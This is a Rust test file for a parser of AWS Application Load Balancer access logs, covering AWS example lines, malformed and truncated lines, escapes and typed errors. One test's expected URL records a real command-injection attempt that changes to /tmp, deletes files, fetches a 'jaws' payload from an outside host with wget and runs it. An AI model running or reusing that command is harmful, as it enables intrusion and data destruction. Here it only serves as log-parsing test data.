//! Golden tests over the example lines AWS publishes for ALB access logs and the quoting,
//! escaping and splitting edge cases seen in real logs.

use super::*;

const AWS_EXAMPLES: &str = include_str!("../../tests/fixtures/aws_examples.log");
const EDGE_CASES: &str = include_str!("../../tests/fixtures/edge_cases.log");

fn example(n: usize) -> &'static str {
    AWS_EXAMPLES.lines().nth(n).expect("fixture line")
}

fn parse(line: &str) -> LogEntry<'_> {
    parse_line(line.as_bytes()).unwrap_or_else(|e| panic!("{e}: {line}"))
}

fn kind(line: &[u8]) -> ErrorKind {
    match parse_line(line) {
        Ok(e) => panic!("parsed as {e:?}"),
        Err(e) => e.kind,
    }
}

#[test]
fn aws_http_example_field_by_field() {
    let e = parse(example(0));
    assert_eq!(e.conn_type, ConnType::Http);
    assert_eq!(e.time, 1_530_570_180_186_641);
    assert_eq!(e.time_text, "2018-07-02T22:23:00.186641Z");
    assert_eq!(e.elb, "app/my-loadbalancer/50dc6c495c0c9188");
    assert_eq!(e.client.ip, "192.168.131.39");
    assert_eq!(e.client.port, 2817);
    let target = e.target.expect("target");
    assert_eq!((target.ip, target.port), (Text::new(b"10.0.0.1"), 80));
    assert_eq!(e.request_processing_time, Some(0));
    assert_eq!(e.target_processing_time, Some(1_000));
    assert_eq!(e.response_processing_time, Some(0));
    assert_eq!(e.elb_status_code, Some(200));
    assert_eq!(e.target_status_code, Some(200));
    assert_eq!((e.received_bytes, e.sent_bytes), (34, 366));
    assert_eq!(e.request().verb.expect("verb"), "GET");
    assert_eq!(e.request().url.expect("url"), "http://www.example.com:80/");
    assert_eq!(e.request().proto.expect("proto"), "HTTP/1.1");
    assert_eq!(e.user_agent().expect("ua"), "curl/7.46.0");
    assert_eq!((e.ssl_cipher(), e.ssl_protocol()), (None, None));
    assert_eq!(e.target_group_name().expect("tg"), "my-targets");
    assert_eq!(
        e.trace_id().expect("trace"),
        "Root=1-58337262-36d228ad5d99923122bbe354"
    );
    assert_eq!((e.domain_name(), e.chosen_cert_arn()), (None, None));
    assert_eq!(e.matched_rule_priority().expect("prio"), "0");
    assert_eq!(e.request_creation_time, Some(1_530_570_168_364_000));
    assert_eq!(e.elapsed_us(), Some(11_822_641));
    assert_eq!(e.actions().collect::<Vec<_>>(), vec![Text::new(b"forward")]);
    assert_eq!((e.redirect_url(), e.error_reason()), (None, None));
    assert_eq!(e.target_port_list().expect("list"), "10.0.0.1:80");
    assert_eq!(e.target_status_code_list().expect("list"), "200");
    assert_eq!(
        (e.classification(), e.classification_reason()),
        (None, None)
    );
    assert_eq!(e.conn_trace_id().expect("tid"), "TID_1234abcd5678ef90");
    assert_eq!(e.request_transform_status(), None);
    assert_eq!(e.field_count(), 33);
    assert_eq!(e.ip_address(), None);
}

#[test]
fn aws_https_example_with_auth_and_rewrite() {
    let e = parse(example(1));
    assert_eq!(e.conn_type, ConnType::Https);
    assert_eq!(e.request_processing_time, Some(86_000));
    assert_eq!(e.target_processing_time, Some(48_000));
    assert_eq!(e.response_processing_time, Some(37_000));
    assert_eq!(
        e.ssl_cipher().expect("cipher"),
        "ECDHE-RSA-AES128-GCM-SHA256"
    );
    assert_eq!(e.ssl_protocol().expect("proto"), "TLSv1.2");
    assert_eq!(e.domain_name().expect("sni"), "www.example.com");
    assert!(e.has_action("authenticate") && e.has_action("forward"));
    assert_eq!(e.last_action().expect("last"), "forward");
    assert_eq!(e.transformed_host().expect("host"), "m.example.com");
    assert_eq!(
        e.request_transform_status().expect("status"),
        "TransformSuccess"
    );
}

#[test]
fn aws_h2_ws_wss_and_lambda_examples() {
    assert_eq!(parse(example(2)).conn_type, ConnType::H2);
    assert_eq!(
        parse(example(2)).redirect_url().expect("redirect"),
        "https://example.com:80/"
    );
    let ws = parse(example(3));
    assert_eq!(
        (ws.conn_type, ws.elb_status_code),
        (ConnType::Ws, Some(101))
    );
    assert_eq!(ws.user_agent(), None);
    assert_eq!(parse(example(4)).conn_type, ConnType::Wss);
    let lambda_ok = parse(example(5));
    assert_eq!(lambda_ok.target, None);
    assert_eq!(lambda_ok.target_status_code, Some(200));
    assert_eq!(lambda_ok.target_status_code_list(), None);
    let lambda_err = parse(example(6));
    assert_eq!(lambda_err.target_status_code, None);
    assert_eq!(
        lambda_err.error_reason().expect("reason"),
        "LambdaInvalidResponse"
    );
}

#[test]
fn observed_malformed_request_with_all_36_fields() {
    let e = parse(example(7));
    assert_eq!(e.field_count(), 36);
    assert_eq!(e.target, None);
    assert_eq!(
        (
            e.request_processing_time,
            e.target_processing_time,
            e.response_processing_time
        ),
        (None, None, None)
    );
    assert_eq!(e.elb_status_code, Some(400));
    assert_eq!(e.request().verb, None);
    assert_eq!(
        e.request().url.expect("url"),
        "http://k8s-tileserver-617dd1df30-606955064.us-east-1.elb.amazonaws.com:80-"
    );
    assert_eq!(e.request().proto, None);
    assert_eq!(e.target_group_arn(), None);
    assert_eq!(e.actions_executed(), None);
    assert_eq!(e.ip_address().expect("ip"), "100.51.96.60");
    assert_eq!((e.target_error_code(), e.elb_error_code()), (None, None));
}

#[test]
fn every_edge_case_fixture_parses() {
    for (n, line) in EDGE_CASES.lines().enumerate() {
        if let Err(e) = parse_line(line.as_bytes()) {
            panic!("edge case {}: {e}: {line}", n + 1);
        }
    }
}

#[test]
fn raw_spaces_in_the_url_stay_in_the_url() {
    let e = parse(EDGE_CASES.lines().next().expect("SpaceInUri line"));
    assert_eq!(
        e.request().url.expect("url"),
        "http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws"
    );
    assert_eq!(e.request().proto.expect("proto"), "HTTP/1.1");
    assert_eq!(e.classification_reason().expect("reason"), "SpaceInUri");
    assert_eq!(e.user_agent().expect("ua"), "Hello, world");
}

#[test]
fn escapes_are_kept_raw_and_decoded_on_request() {
    let e = parse(EDGE_CASES.lines().nth(1).expect("escape line"));
    let url = e.request().url.expect("url");
    assert_eq!(url, r"https://api.example.com:443/search?q=\x22quoted\x22");
    assert_eq!(
        &*url.decoded(),
        br#"https://api.example.com:443/search?q="quoted""#
    );
    let ua = e.user_agent().expect("ua");
    assert_eq!(ua, r#"Agent \"with quotes\" inside"#);
    assert_eq!(&*ua.decoded(), br#"Agent "with quotes" inside"#);
}

#[test]
fn ipv6_addresses_split_on_the_last_colon() {
    let e = parse(EDGE_CASES.lines().nth(2).expect("ipv6 line"));
    assert_eq!(e.client.ip, "2001:db8:85a3::8a2e:370:7334");
    assert_eq!(e.client.port, 51234);
    let t = e.target.expect("target");
    assert_eq!((t.ip, t.port), (Text::new(b"2600:1f18:abcd::17"), 8443));
}

#[test]
fn fields_35_and_36_with_values_quoted_or_bare() {
    let quoted = parse(EDGE_CASES.lines().nth(3).expect("quoted 35/36"));
    assert_eq!(quoted.elb_status_code, Some(0));
    assert_eq!(quoted.target_error_code().expect("tec"), "0x8");
    let bare = parse(EDGE_CASES.lines().nth(4).expect("bare 35/36"));
    assert_eq!(bare.elb_error_code().expect("eec"), "0x2");
}

#[test]
fn extra_trailing_fields_are_ignored_and_never_shift_columns() {
    let base = example(7);
    let plain = parse(base);
    for extra in [
        r#" "-""#,
        r#" "-" "-" "-""#,
        " future unquoted",
        r#" "unterminated"#,
    ] {
        let longer = format!("{base}{extra}");
        assert_eq!(parse(&longer), plain, "{extra}");
    }
}

#[test]
fn short_lines_of_older_formats() {
    let full = example(0);
    let fields: Vec<&str> = full.split(' ').collect();
    // Fields 1-12 are single tokens; field 13 (the request line) spans three.
    let first12 = fields[..12].join(" ");
    let e = parse(&first12);
    assert_eq!(e.field_count(), 12);
    assert_eq!(e.sent_bytes, 366);
    assert_eq!(e.request(), RequestLine::default());
    let with_ua = format!("{first12} \"GET http://x:80/ HTTP/1.1\" \"curl\"");
    assert_eq!(parse(&with_ua).field_count(), 14);
    let eleven = fields[..11].join(" ");
    assert_eq!(kind(eleven.as_bytes()), ErrorKind::TooFewFields);
}

#[test]
fn trailing_carriage_return_and_newline() {
    let line = format!("{}\r\n", example(0));
    assert_eq!(parse(&line), parse(example(0)));
}

/// Regression (property test): `\r\r` at the end was swept away; only one terminator goes, so
/// the stray `\r` stays in the last field and fails it.
#[test]
fn only_one_line_terminator_is_stripped() {
    let short: Vec<&str> = example(0).split(' ').take(12).collect();
    let line = short.join(" ");
    for ok in ["\n", "\r", "\r\n"] {
        assert_eq!(parse(&format!("{line}{ok}")).sent_bytes, 366, "{ok:?}");
    }
    for bad in ["\r\r", "\r\r\n", "\n\r", "\n\n"] {
        assert_eq!(
            kind(format!("{line}{bad}").as_bytes()),
            ErrorKind::BadBytes,
            "{bad:?}"
        );
    }
    let quoted_last = format!("{}\r\r", example(7));
    assert_eq!(kind(quoted_last.as_bytes()), ErrorKind::UnterminatedQuote);
}

#[test]
fn unknown_connection_types_are_kept() {
    let line = example(0).replacen("http", "h3", 1);
    assert_eq!(parse(&line).conn_type, ConnType::Other(Text::new(b"h3")));
}

#[test]
fn status_000_and_dash_fields() {
    let line = example(0).replacen(" 200 200 ", " 000 - ", 1);
    let e = parse(&line);
    assert_eq!((e.elb_status_code, e.target_status_code), (Some(0), None));
}

#[test]
fn foreign_aws_formats_are_not_alb() {
    let nlb = b"tls 2.0 2018-12-20T02:59:40 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd 72.21.218.154:51341 172.100.100.185:443 5 2 98 246 - arn:aws:acm:us-east-2:671290407336:certificate/2a108f19-aded-46b0-8493-c63eb1ef4a99 - ECDHE-RSA-AES128-SHA tlsv12 - my-network-loadbalancer-c6e77e28c25b2234.elb.us-east-2.amazonaws.com - - - 2018-12-20T02:59:30";
    assert_eq!(kind(nlb), ErrorKind::NotAlb);
    let classic = br#"2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.000073 0.001048 0.000057 200 200 0 29 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.38.0" - -"#;
    assert_eq!(kind(classic), ErrorKind::NotAlb);
    let conn = br#"2023-10-04T17:05:15.514108Z 203.0.113.1 36280 443 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 4.036 "CN=amazondomains.com,O=endEntity,L=Seattle,ST=Washington,C=US" NotBefore=2023-09-21T22:43:21Z;NotAfter=2026-06-17T22:43:21Z FEF257372D5C14D4 Success TID_3180a73013c8ca4bac2f731159d4b0fe"#;
    assert_eq!(kind(conn), ErrorKind::NotAlb);
}

#[test]
fn garbage_gets_a_typed_error() {
    assert_eq!(kind(b""), ErrorKind::Empty);
    assert_eq!(kind(b"\r\n"), ErrorKind::Empty);
    assert_eq!(kind(b"hello world"), ErrorKind::TooFewFields);
    assert_eq!(kind(b"\"unterminated"), ErrorKind::UnterminatedQuote);
    assert_eq!(kind(&[0xff; 64]), ErrorKind::TooFewFields);
    let base = example(0);
    let swap = |from: &str, to: &str| base.replacen(from, to, 1);
    assert_eq!(kind(swap("http ", "HTTP ").as_bytes()), ErrorKind::BadType);
    assert_eq!(
        kind(swap("2018-07-02T22:23:00.186641Z", "yesterday").as_bytes()),
        ErrorKind::BadTime
    );
    assert_eq!(
        kind(swap("app/my-loadbalancer/50dc6c495c0c9188", "-").as_bytes()),
        ErrorKind::BadElb
    );
    assert_eq!(
        kind(swap("192.168.131.39:2817", "192.168.131.39").as_bytes()),
        ErrorKind::BadAddress
    );
    assert_eq!(
        kind(swap("10.0.0.1:80 0", "10.0.0.1:http 0").as_bytes()),
        ErrorKind::BadAddress
    );
    assert_eq!(
        kind(swap("0.000 0.001", "fast 0.001").as_bytes()),
        ErrorKind::BadProcessingTime
    );
    assert_eq!(
        kind(swap(" 200 200 ", " 2xx 200 ").as_bytes()),
        ErrorKind::BadStatus
    );
    assert_eq!(
        kind(swap(" 200 200 ", " 200 OK ").as_bytes()),
        ErrorKind::BadStatus
    );
    assert_eq!(
        kind(swap(" 34 366 ", " 34 lots ").as_bytes()),
        ErrorKind::BadBytes
    );
    assert_eq!(
        kind(swap("0 2018-07-02T22:22:48.364000Z", "0 noon").as_bytes()),
        ErrorKind::BadTime
    );
}

/// Regression (fuzz): a quoted `" "` load balancer parsed as a success with a space in a label.
#[test]
fn fuzz_quoted_elb_with_a_space() {
    let input = include_bytes!("../../tests/fixtures/regressions/fuzz-quoted-elb-space.bin");
    assert_eq!(kind(input), ErrorKind::BadElb);
}

/// Regression (issue: parse gaps): a space after the protocol is not part of the URL.
#[test]
fn a_request_line_with_a_trailing_space_keeps_its_protocol() {
    let line = include_str!("../../tests/fixtures/regressions/request-trailing-space.log");
    let e = parse(line.trim_end_matches('\n'));
    let r = e.request();
    assert_eq!(r.verb.expect("verb"), "GET");
    assert_eq!(r.url.expect("url"), "http://www.example.com:80/");
    assert_eq!(r.proto.expect("protocol"), "HTTP/1.0");
}

/// Regression (issue: parse gaps): `actions_executed` written as `""` lists no action.
#[test]
fn an_empty_actions_executed_holds_no_action() {
    let line = include_str!("../../tests/fixtures/regressions/actions-executed-empty.log");
    let e = parse(line.trim_end_matches('\n'));
    assert_eq!(e.actions_executed().map(|a| a.len()), Some(0));
    assert_eq!(e.actions().count(), 0);
    assert!(e.last_action().is_none());
}

/// Regression (issue: `-` as elb_status_code): the load balancer sent no status, which AWS
/// writes as `-`; the line was rejected as `bad_status`.
#[test]
fn a_dash_elb_status_code_is_no_status() {
    let line = include_str!("../../tests/fixtures/regressions/elb-status-code-dash.log");
    let e = parse(line.trim_end_matches('\n'));
    assert_eq!((e.elb_status_code, e.target_status_code), (None, None));
    assert_eq!(e.field_count(), MAX_FIELDS);
    assert_eq!(e.request_processing_time, Some(1_000));
    assert_eq!(e.target_processing_time, None);
    assert_eq!(e.target.map(|t| t.port), Some(8080));
    assert_eq!(e.ip_address().expect("node"), "100.51.96.60");
    // Anything else that is not three digits is still a bad status.
    for bad in ["--", "-1", "2-0", "-00"] {
        let line = example(0).replacen(" 200 200 ", &format!(" {bad} 200 "), 1);
        assert_eq!(kind(line.as_bytes()), ErrorKind::BadStatus, "{bad}");
    }
}

#[test]
fn parse_error_reports_the_field() {
    let line = example(0).replacen(" 200 200 ", " 200 OK ", 1);
    let err = parse_line(line.as_bytes()).expect_err("bad status");
    assert_eq!(err.field, 10);
    assert_eq!(err.to_string(), "bad status code (field 10)");
}

#[test]
fn error_kinds_are_a_closed_set_of_distinct_labels() {
    let mut names: Vec<_> = ErrorKind::ALL.iter().map(|k| k.as_str()).collect();
    names.sort_unstable();
    names.dedup();
    assert_eq!(names.len(), ErrorKind::ALL.len());
}

/// One entry parsed into line after line says exactly what a fresh `parse_line` says, whatever
/// the line before it left behind: all 36 fields before 12, a request creation time before
/// none, a failed line before a good one.
#[test]
fn an_entry_reused_from_line_to_line_keeps_nothing_from_the_last() {
    let full = example(0);
    let first12 = full.split(' ').take(12).collect::<Vec<_>>().join(" ");
    let mut lines: Vec<&str> = AWS_EXAMPLES.lines().chain(EDGE_CASES.lines()).collect();
    lines.extend([first12.as_str(), "hello world", full, "", first12.as_str()]);
    let mut entry = LogEntry::blank();
    for pass in [lines.clone(), lines.into_iter().rev().collect()] {
        for line in pass {
            let got = parse_line_into(line.as_bytes(), &mut entry).map(|()| &entry);
            assert_eq!(got.cloned(), parse_line(line.as_bytes()), "{line}");
        }
    }
}
